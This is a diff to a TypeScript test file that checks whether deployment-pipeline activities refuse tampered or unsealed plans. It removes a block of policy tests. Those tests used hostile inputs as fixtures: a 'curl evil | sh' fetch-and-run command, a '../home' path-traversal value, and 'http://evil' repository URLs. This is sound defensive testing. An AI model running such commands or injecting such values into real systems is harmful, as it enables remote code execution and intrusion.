@@ -1,13 +1,11 @@
 /** What activities refuse before they touch anything, whoever asks: each row is a word changed by somebody who can write to Temporal. */
 import { beforeAll, describe, expect, test } from 'vitest';
 import { AUTHORITIES } from '../../../activities/trust/authority.js';
-import type { PolicyStore } from '../../../activities/trust/policy-store.js';
 import { withHash } from '../../../pipeline/hash-plan.js';
 import type { Colour, Seal } from '../../../pipeline/plan.js';
 import type { Target } from '../../../workflows/activity-contract.js';
 import { CHANGES_THE_WORLD } from '../../../workflows/activity-options.js';
 import { givenArtifacts } from '../../support/given.js';
-import { givenPolicyStore } from '../../support/policies.js';
 import {
   evidenceOf,
   gateSaid,
@@ -15,7 +13,7 @@ import {
   type Name,
   type SealedRelease,
 } from '../../support/sealed.js';
-import { inputOf, useVouchingWorker } from '../../support/vouching-worker.js';
+import { inputOf, OF_A_TARGET, useVouchingWorker } from '../../support/vouching-worker.js';
 
 const { keys, begins, refusal } = useVouchingWorker();
 let release: SealedRelease;
@@ -33,21 +31,6 @@ beforeAll(async () => {
 });
 
 type Words = Pick<SealedRelease, 'target' | 'prior'>;
-const OF_A_TARGET: Name[] = [
-  'preflight',
-  'claim',
-  'proveWayBack',
-  'deploy',
-  'verify',
-  'measureBaseline',
-  'bake',
-  'tagArtifacts',
-  'retireColour',
-  'switchTraffic',
-  'undoDeploy',
-  'takeOver',
-];
-const WAY_BACK_NAMES: Name[] = ['claim', 'undoDeploy', 'takeOver', 'retireColour'];
 const WITH_PRIOR: Name[] = ['deploy', 'undoDeploy'];
 
 const words = (change: Partial<Target> = {}, prior = release.prior): Words => ({
@@ -278,97 +261,6 @@ describe('activities that change the world', () => {
   );
 });
 
-describe('the policy of the moment', () => {
-  test('runs and resolves nothing that only a stranger names, to look', async () => {
-    const doctor = { what: 'doctor', step: null, host: null, lines: 1, live: null };
-    const look = (change: Partial<Target['plan']>, what = 'doctor') => ({
-      ...doctor,
-      what,
-      plan: {
-        ...without(release.environment),
-        platform: { kind: 'swarm', service: 'shop', fields: {} },
-        traffic: null,
-        ...change,
-      },
-    });
-    const ask = (input: unknown) => refusal('inspectEnvironment', input, policyOf());
-    const commands = { kind: 'command', restore: null, retire: null, on: 'worker' } as const;
-    const platform = { ...commands, command: 'id', inspect: 'curl evil | sh' };
-    expect(await ask(look({ platform }))).toMatch(/command id is not allowed/);
-    expect(await ask(look({ secrets: { A: 'env:PROD_A' } }))).toMatch(/secret env:PROD_A is not allowed/);
-    expect(await ask(look({}, 'logs'))).toMatch(/the plan has no seal/);
-    expect(await ask({ ...doctor, plan: { ...release.environment, platform } })).toMatch(/changed after/);
-    const live = { ...release.target, colour: '../home' as Colour, at: '', by: 'x' };
-    expect(await ask({ ...look({}), live })).toMatch(/no such colour/);
-    expect(await ask({ ...look({}), live: { ...live, version: 'v2' } })).toMatch(/is of v1\.0\.0/);
-    expect(await begins('inspectEnvironment', look({}), policyOf())).toBe(true);
-  });
-
-  test('refuses what was planned before there was one, with its word for who approved', async () => {
-    const before = await givenSealedRelease(keys.ours);
-    const { target, prior } = before;
-    expect(await refusal('deploy', { target, prior }, policyOf())).toMatch(/has become stricter/);
-    expect(await begins('undoDeploy', { target, prior }, policyOf())).toBe(true);
-  });
-
-  const back = WAY_BACK_NAMES;
-  const stricter: [string, string, RegExp][] = [
-    ['more approvals', 'approvals: [{count: 1, by: unverified}]', /policy has become stricter/],
-    ['other hosts', 'hosts: [deploy@web-1]', /host deploy@web-2 is not allowed/],
-    ['other refs', 'from: {branch: main}', /tag v1\.0\.0 is not allowed/],
-    ['a longer wait', 'wait: 1h', /policy has become stricter/],
-  ];
-  describe.each(stricter)('with %s', (_what, line, reason) => {
-    test.each(OF_A_TARGET.filter((name) => !back.includes(name)))('%s refuses', async (name) => {
-      expect(await refusal(name, inputOf(name, words()), policyOf(line))).toMatch(reason);
-    });
-
-    test.each(back)('%s still goes back', async (name) => {
-      expect(await begins(name, inputOf(name, words()), policyOf(line))).toBe(true);
-    });
-  });
-
-  test('allows what it allowed when it was planned', async () => {
-    expect(await begins('deploy', inputOf('deploy', words()), policyOf())).toBe(true);
-  });
-
-  test('keeps looks and fetches to what it names', async () => {
-    const plan = release.environment;
-    const look = { what: 'doctor', plan, step: null, host: null, lines: 1, live: null };
-    expect(await begins('inspectEnvironment', look, policyOf())).toBe(true);
-    expect(await begins('inspectEnvironment', look)).toBe(true);
-    const unsealed = (change: Partial<Target['plan']>, what = 'doctor') => ({
-      ...look,
-      what,
-      plan: { ...without(plan), ...change },
-    });
-    const evil = unsealed({ hosts: [{ name: 'evil', address: 'evil' }] });
-    expect(await refusal('inspectEnvironment', evil, policyOf())).toMatch(/host evil is not allowed/);
-    const strange = unsealed({ name: 'prod2' });
-    expect(await refusal('inspectEnvironment', strange, policyOf())).toMatch(/no such environment/);
-    const asked = { commit: 'a'.repeat(40), candidates: [] };
-    expect(await begins('listAncestors', { ...asked, repositoryUrl: '/srv/shop.git' }, policyOf())).toBe(
-      true,
-    );
-    expect(await refusal('listAncestors', { ...asked, repositoryUrl: 'http://evil' }, policyOf())).toMatch(
-      /does not allow it/,
-    );
-    for (const name of ['recordDeployment', 'setCommitStatus', 'commentOnPullRequest'] as const) {
-      expect(await begins(name, { ...asked, repositoryUrl: '/srv/shop.git' }, policyOf())).toBe(true);
-      expect(await refusal(name, { ...asked, repositoryUrl: 'http://evil' }, policyOf())).toMatch(
-        /does not allow it/,
-      );
-    }
-  });
-
-  test('refuses production where the policy was taken away', async () => {
-    const gone: PolicyStore = { read: async () => null, isDemo: false };
-    expect(await refusal('deploy', inputOf('deploy', words()), gone)).toMatch(
-      /is production, and this worker has no policy/,
-    );
-  });
-});
-
 function sealOf({ environment: { seal } }: SealedRelease): Seal {
   if (seal === undefined) throw new Error('there is no seal');
   return seal;
@@ -386,11 +278,4 @@ function reworded(): Seal {
 
 function pick(seal: Seal | undefined): { seal?: Seal } {
   return seal === undefined ? {} : { seal };
-}
-
-/** One that allows the release as it was planned, but for one line. */
-function policyOf(line = ''): PolicyStore {
-  const hosts = line.startsWith('hosts:') ? '' : 'hosts: [deploy@web-1, deploy@web-2], ';
-  const text = `pipelines: {shop: {repositories: [/srv/shop.git], environments: {prod: {${hosts}${line}}}}}`;
-  return givenPolicyStore(text);
 }
